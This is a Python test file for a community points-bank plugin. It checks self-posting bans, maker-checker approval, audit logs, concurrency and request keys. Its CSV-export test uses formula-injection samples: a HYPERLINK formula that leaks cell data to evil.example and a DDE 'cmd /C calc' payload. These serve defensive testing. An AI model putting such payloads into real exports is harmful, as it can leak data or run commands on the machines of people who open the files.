"""Issue 14, high 2: a clerk could credit himself without limit through a manual
correction, and a correction sent without its form key collided with every other
keyless one. Now: nobody posts to their own account, a correction above the clerk's
limits waits for a second person (maker–checker), every correction is in a report
with a CSV export safe to open in a spreadsheet, and a missing key is refused."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from datetime import timedelta

import pytest

from linli.kit import AuditEntry, load_actor
from linli.testing import form_post, log_in, make_account, make_person
from linli_streetbank import services
from linli_streetbank.models import (
    ADJUSTMENT,
    PENDING,
    POSTED,
    REJECTED,
    Adjustment,
    Entry,
    LedgerAccount,
)

pytestmark = pytest.mark.linli_plugins("streetbank")

BASE = "/c/test/streetbank"


def _main(html: str) -> str:
    return html.split("<main", 1)[1]


async def _supervisor(bank, username: str = "boss"):
    """A second person who may approve (the street bank supervisor role)."""
    person = await make_person(bank.community, f"{username}主管")
    return await make_account(username, bank.community, "streetbank_supervisor", person=person)


async def _adjust(client, person: str, amount: int | str, key: str | None, reason: str = "补录"):
    form = {"person": person, "amount": str(amount), "reason": reason}
    if key is not None:
        form["request_key"] = key
    return await form_post(client, f"{BASE}/worker/adjust", form)


async def _ledger_unchanged_since(entries: int) -> None:
    assert await Entry.all().count() == entries
    report = await services.verify_ledger()
    assert report.ok, report.lines()


# --------------------------------------------------------------- one's own account


async def test_a_clerk_cannot_credit_himself(linli_client, bank):
    """The attack: three corrections of 100,000 points to the clerk's own account."""
    entries = await Entry.all().count()
    await log_in(linli_client, "worker")
    me = f"#{bank.worker.person_id}"
    for i in range(3):
        response = await _adjust(linli_client, me, 100000, f"self{i}")
        assert response.status_code == 403
        html = _main(response.text)
        assert "不能在自己的账户上记账" in html
        assert 'class="error-summary"' in html and '<form method="post"' in html
    assert await LedgerAccount.filter(person_id=bank.worker.person_id, balance__gt=0).count() == 0
    assert await Adjustment.all().count() == 0
    await _ledger_unchanged_since(entries)


async def test_the_refusal_is_in_english_too(linli_client, bank):
    await log_in(linli_client, "worker")
    await form_post(linli_client, "/prefs/language", {"language": "en", "next": "/"})
    response = await _adjust(linli_client, f"#{bank.worker.person_id}", 5, "k")
    assert response.status_code == 403
    assert "You may not post to your own account" in response.text


async def test_nor_through_redeem_for_nor_a_reversal(linli_client, bank):
    boss = await _supervisor(bank)
    worker_person = await bank.worker.person
    # Another worker credits the clerk for real service: fine.
    await services.record_service(
        bank.community, person=worker_person, category=bank.category, quantity="3",
        served_on=services.now_utc().date(), key="boss-earn", actor=await load_actor(boss),
    )  # fmt: skip
    earned = await Entry.get(idempotency_key="boss-earn")
    entries = await Entry.all().count()
    await log_in(linli_client, "worker")
    redeemed = await form_post(
        linli_client, f"{BASE}/worker/redeem-for",
        {"person": f"#{worker_person.id}", "item": str(bank.item.id), "request_key": "rf"},
    )  # fmt: skip
    assert redeemed.status_code == 403
    assert "不能在自己的账户上记账" in _main(redeemed.text)
    reversed_ = await form_post(
        linli_client, f"{BASE}/worker/ledger/{earned.id}/reverse",
        {"reason": "撤销", "confirmed": "yes"},
    )  # fmt: skip
    assert reversed_.status_code == 403
    assert "不能在自己的账户上记账" in _main(reversed_.text)
    recorded = await form_post(
        linli_client, f"{BASE}/worker/record",
        {"person": f"#{worker_person.id}", "category": str(bank.category.id), "quantity": "1",
         "request_key": "rec"},
    )  # fmt: skip
    assert recorded.status_code == 403
    await _ledger_unchanged_since(entries)
    assert await services.balance_of(worker_person) == 30


async def test_a_checker_cannot_approve_a_correction_of_his_own_account(bank):
    boss = await _supervisor(bank)
    boss_person = await boss.person
    pending = (
        await services.adjust(
            bank.community,
            person=boss_person,
            amount=500,
            reason="补录",
            key="k",
            actor=await bank.actor(bank.worker),
        )
    ).value
    assert pending.status == PENDING
    with pytest.raises(services.OwnAccount):
        await services.approve_adjustment(pending, actor=await load_actor(boss))
    assert await services.balance_of(boss_person) == 0


# ------------------------------------------------------------------- maker–checker


async def test_a_correction_above_the_limit_waits_for_a_second_person(linli_client, bank):
    await _supervisor(bank)
    entries = await Entry.all().count()
    await log_in(linli_client, "worker")
    response = await _adjust(linli_client, "张阿姨", 100000, "big")
    assert response.status_code == 200
    assert "超出了您的权限" in response.text and "需等待另一人批准" in response.text
    assert await services.balance_of(bank.resident) == 0
    await _ledger_unchanged_since(entries)
    adjustment = await Adjustment.get(key=f"c{bank.community.id}:adjust:big")
    assert (adjustment.status, adjustment.entry_id) == (PENDING, None)
    # The maker has no approval page, and cannot approve through the URL.
    assert (await linli_client.get(f"{BASE}/worker/approvals")).status_code == 403
    url = f"{BASE}/worker/approvals/{adjustment.id}/approve"
    assert (await form_post(linli_client, url, {})).status_code == 403
    await form_post(linli_client, "/logout", {})

    await log_in(linli_client, "boss")
    listed = await linli_client.get(f"{BASE}/worker/approvals")
    assert listed.status_code == 200
    assert "张阿姨" in listed.text and "+100000" in listed.text and "worker" in listed.text
    approved = await form_post(linli_client, url, {})
    assert approved.status_code == 200
    assert "已批准调整：张阿姨 +100000 积分。" in approved.text
    assert "没有等待批准的调整" in approved.text
    assert await services.balance_of(bank.resident) == 100000
    await adjustment.refresh_from_db()
    assert adjustment.status == POSTED and adjustment.decided_by_id is not None
    entry = await Entry.get(id=adjustment.entry_id)
    assert entry.kind == ADJUSTMENT and entry.memo == "补录"
    again = await form_post(linli_client, url, {})
    assert again.status_code == 409
    assert "已经批准或驳回" in _main(again.text)
    await _ledger_unchanged_since(entries + 1)


async def test_the_maker_cannot_approve_their_own(linli_client, bank):
    await _supervisor(bank, "boss")
    await _supervisor(bank, "boss2")
    await log_in(linli_client, "boss")
    await _adjust(linli_client, "张阿姨", 80, "mine")
    adjustment = await Adjustment.get()
    assert adjustment.status == PENDING
    page = await linli_client.get(f"{BASE}/worker/approvals")
    assert "您提交的，由另一人决定" in page.text
    url = f"{BASE}/worker/approvals/{adjustment.id}/approve"
    refused = await form_post(linli_client, url, {})
    assert refused.status_code == 403
    assert "不能批准或驳回自己提交的调整" in _main(refused.text)
    assert await services.balance_of(bank.resident) == 0
    await form_post(linli_client, "/logout", {})
    await log_in(linli_client, "boss2")
    assert (await form_post(linli_client, url, {})).status_code == 200
    assert await services.balance_of(bank.resident) == 80


async def test_a_rejection_records_why_and_posts_nothing(linli_client, bank):
    await _supervisor(bank)
    entries = await Entry.all().count()
    pending = (
        await services.adjust(
            bank.community,
            person=bank.resident,
            amount=900,
            reason="补录",
            key="k",
            actor=await bank.actor(bank.worker),
        )
    ).value
    await log_in(linli_client, "boss")
    url = f"{BASE}/worker/approvals/{pending.id}/reject"
    no_reason = await form_post(linli_client, url, {"reason": " "})
    assert no_reason.status_code == 400 and "请说明驳回的原因" in _main(no_reason.text)
    done = await form_post(linli_client, url, {"reason": "没有依据"})
    assert done.status_code == 200 and "已驳回调整" in done.text
    await pending.refresh_from_db()
    assert (pending.status, pending.decision_note, pending.entry_id) == (
        REJECTED, "没有依据", None
    )  # fmt: skip
    late = await form_post(linli_client, f"{BASE}/worker/approvals/{pending.id}/approve", {})
    assert late.status_code == 409
    assert await services.balance_of(bank.resident) == 0
    await _ledger_unchanged_since(entries)


async def test_the_daily_total_also_needs_approval(linli_client, bank):
    await log_in(linli_client, "worker")
    for i in range(6):  # 40 points each: the limit is 50 a correction and 200 a day
        await _adjust(linli_client, "张阿姨", 40, f"d{i}")
    states = [a.status for a in await Adjustment.all().order_by("id")]
    assert states == [POSTED] * 5 + [PENDING]
    assert await services.balance_of(bank.resident) == 200
    # A debit counts towards the total as much as a credit.
    await _adjust(linli_client, "张阿姨", -10, "minus")
    assert (await Adjustment.get(key__endswith=":minus")).status == PENDING


async def test_the_limits_are_set_by_an_administrator_only(linli_client, bank):
    """A maker who could raise their own limit would need no checker: the limits are
    among the settings only the community's administrators change."""
    await _supervisor(bank)
    settings = "/c/test/admin/plugins/streetbank/settings"
    form = {"adjust_limit": "100000", "adjust_daily_limit": "100000"}
    for who in ("worker", "boss"):
        await log_in(linli_client, who)
        assert (await form_post(linli_client, settings, form)).status_code == 403
        await form_post(linli_client, "/logout", {})
    assert (await services.settings_of(bank.community)).adjust_limit == 50
    await make_account("admin", bank.community, "administrator")
    await log_in(linli_client, "admin")
    bad = await form_post(linli_client, settings, {"adjust_limit": "-1"})
    assert bad.status_code == 400 and 'id="adjust_limit-error"' in bad.text
    zero = {"adjust_limit": "0", "adjust_daily_limit": "0"}
    saved = await form_post(linli_client, settings, zero)
    assert saved.status_code == 200 and "设置已保存" in saved.text
    await form_post(linli_client, "/logout", {})
    await log_in(linli_client, "worker")
    await _adjust(linli_client, "张阿姨", 1, "one")
    assert (await Adjustment.get()).status == PENDING
    assert await AuditEntry.filter(action="streetbank.settings").exists()


async def test_every_staff_write_is_audited(bank):
    boss = await _supervisor(bank)
    worker = await bank.actor(bank.worker)
    small = await services.adjust(
        bank.community, person=bank.resident, amount=5, reason="r", key="a", actor=worker
    )
    big = await services.adjust(
        bank.community, person=bank.resident, amount=500, reason="r", key="b", actor=worker
    )
    other = await services.adjust(
        bank.community, person=bank.resident, amount=600, reason="r", key="c", actor=worker
    )
    await services.approve_adjustment(big.value, actor=await load_actor(boss))
    await services.reject_adjustment(other.value, actor=await load_actor(boss), reason="no")
    actions = {
        (row.action, row.object_id)
        for row in await AuditEntry.filter(object_type="streetbank.Adjustment")
    }
    assert actions == {
        ("streetbank.adjust", str(small.value.id)),
        ("streetbank.adjust_request", str(big.value.id)),
        ("streetbank.adjust_request", str(other.value.id)),
        ("streetbank.adjust_approve", str(big.value.id)),
        ("streetbank.adjust_reject", str(other.value.id)),
    }


# --------------------------------------------------------------------- concurrency


async def test_concurrent_approvals_post_exactly_once(bank):
    boss, boss2 = await _supervisor(bank, "boss"), await _supervisor(bank, "boss2")
    pending = (
        await services.adjust(
            bank.community,
            person=bank.resident,
            amount=700,
            reason="补录",
            key="k",
            actor=await bank.actor(bank.worker),
        )
    ).value
    actors = [await load_actor(boss), await load_actor(boss2)]
    copies = [await Adjustment.get(id=pending.id) for _ in range(20)]
    results = await asyncio.gather(
        *(services.approve_adjustment(copy, actor=actors[i % 2]) for i, copy in enumerate(copies)),
        return_exceptions=True,
    )
    done = [r for r in results if isinstance(r, Adjustment)]
    refused = [r for r in results if not isinstance(r, Adjustment)]
    assert len(done) == 1
    assert all(isinstance(r, services.AlreadyDecided) for r in refused), refused
    assert await services.balance_of(bank.resident) == 700
    assert await Entry.filter(kind=ADJUSTMENT).count() == 1
    report = await services.verify_ledger()
    assert report.ok, report.lines()


async def test_concurrent_corrections_cannot_pass_the_daily_total(bank):
    worker = await bank.actor(bank.worker)
    results = await asyncio.gather(
        *(
            services.adjust(
                bank.community,
                person=bank.resident,
                amount=40,
                reason="r",
                key=f"k{i}",
                actor=worker,
            )
            for i in range(10)
        )
    )
    states = sorted(done.value.status for done in results)
    assert states == [PENDING] * 5 + [POSTED] * 5
    assert await services.balance_of(bank.resident) == 200
    report = await services.verify_ledger()
    assert report.ok, report.lines()


# --------------------------------------------------------------------- request key


async def test_a_correction_without_its_key_is_refused_not_collided(linli_client, bank):
    """Before: the first keyless correction was stored under ``…:adjust:none`` and the
    second (another person, another amount) was dropped while answering 303."""
    wang = await make_person(bank.community, "王大爷")
    entries = await Entry.all().count()
    await log_in(linli_client, "worker")
    for who, amount in (("张阿姨", 5), ("王大爷", 7)):
        response = await _adjust(linli_client, who, amount, None)
        assert response.status_code == 400
        html = _main(response.text)
        assert "表单已失效，请重试" in html
        assert re.search(r'name="request_key" value="[^"]+"', html)  # a fresh key
        assert f'value="{who}"' in html  # the input kept
    await _ledger_unchanged_since(entries)
    assert await Adjustment.all().count() == 0
    # With their keys, both corrections are posted: none is taken for the other.
    await _adjust(linli_client, "张阿姨", 5, "one")
    await _adjust(linli_client, "王大爷", 7, "two")
    assert await services.balance_of(bank.resident) == 5
    assert await services.balance_of(wang) == 7


async def test_a_key_sent_again_posts_once_and_cannot_carry_another_correction(linli_client, bank):
    await log_in(linli_client, "worker")
    first = await _adjust(linli_client, "张阿姨", 5, "same")
    assert "已记录调整：张阿姨 +5 积分。" in first.text
    again = await _adjust(linli_client, "张阿姨", 5, "same")
    assert "已经办理过" in again.text
    other = await _adjust(linli_client, "张阿姨", 9, "same")
    assert other.status_code == 409
    assert "这张表单已用于另一笔调整" in _main(other.text)
    assert await services.balance_of(bank.resident) == 5


# -------------------------------------------------------------------------- report


async def test_the_report_lists_every_correction_by_month(linli_client, bank):
    boss = await _supervisor(bank)
    worker = await bank.actor(bank.worker)
    now = services.now_utc()
    last_month = now.replace(day=1) - timedelta(days=3)
    await services.adjust(
        bank.community, person=bank.resident, amount=5, reason="上月补录", key="old",
        actor=worker, now=last_month,
    )  # fmt: skip
    big = await services.adjust(
        bank.community, person=bank.resident, amount=300, reason="活动奖励", key="new",
        actor=worker,
    )  # fmt: skip
    await services.approve_adjustment(big.value, actor=await load_actor(boss))
    month = services.month_of(now)
    await log_in(linli_client, "worker")
    page = await linli_client.get(f"{BASE}/worker/adjustments?month={month}")
    assert page.status_code == 200
    html = _main(page.text)
    assert "活动奖励" in html and "+300" in html and "boss" in html and "已入账" in html
    assert "上月补录" not in html
    everything = _main((await linli_client.get(f"{BASE}/worker/adjustments")).text)
    assert "上月补录" in everything and "在经办人权限内" in everything
    for month in ("March", "9999-12", "0001-01", "2026-13"):
        bad = await linli_client.get(f"{BASE}/worker/adjustments?month={month}")
        assert bad.status_code == 400 and "YYYY-MM" in _main(bad.text), month
    csv_bad = await linli_client.get(f"{BASE}/worker/adjustments.csv?month=9999-12")
    assert csv_bad.status_code == 400


async def test_residents_and_operators_do_not_see_the_report(linli_client, bank):
    for username in ("zhang", "barber"):
        await log_in(linli_client, username)
        for path in ("/worker/adjustments", "/worker/adjustments.csv"):
            assert (await linli_client.get(BASE + path)).status_code == 403, (username, path)
        await form_post(linli_client, "/logout", {})


async def test_the_csv_export_escapes_formulas(linli_client, bank):
    worker = await bank.actor(bank.worker)
    reasons = [
        '=HYPERLINK("http://evil.example/?leak="&E2,"点击核对")',
        "+1+cmd|' /C calc'!A0",
        "-2",
        "@SUM(A1)",
        "\tindent",
        "\rreturn",
        "普通原因",
    ]
    for i, reason in enumerate(reasons):
        await services.adjust(
            bank.community, person=bank.resident, amount=1, reason=reason, key=f"k{i}",
            actor=worker,
        )  # fmt: skip
    await services.adjust(
        bank.community, person=bank.resident, amount=-1, reason="扣回", key="minus",
        actor=worker,
    )  # fmt: skip
    await log_in(linli_client, "worker")
    response = await linli_client.get(f"{BASE}/worker/adjustments.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert rows[0][:4] == ["时间", "经办人", "居民", "积分"]
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    got = {row[4] for row in rows[1:]}
    assert "'" + reasons[0] in got and "'-2" in got and "'@SUM(A1)" in got
    assert "普通原因" in got
    assert "'-1" in {row[3] for row in rows[1:]}  # a negative amount too
    assert "'" + reasons[0] not in {c for row in rows[1:] for c in row[:4]}


def test_the_cell_rule():
    assert services.csv_cell("=1+2") == "'=1+2"
    assert services.csv_cell("+1") == "'+1"
    assert services.csv_cell("-1") == "'-1"
    assert services.csv_cell("@x") == "'@x"
    assert services.csv_cell("\tx") == "'\tx"
    assert services.csv_cell("\rx") == "'\rx"
    assert services.csv_cell("a=b") == "a=b"
    assert services.csv_cell(None) == ""
    assert services.csv_cell(5) == "5"
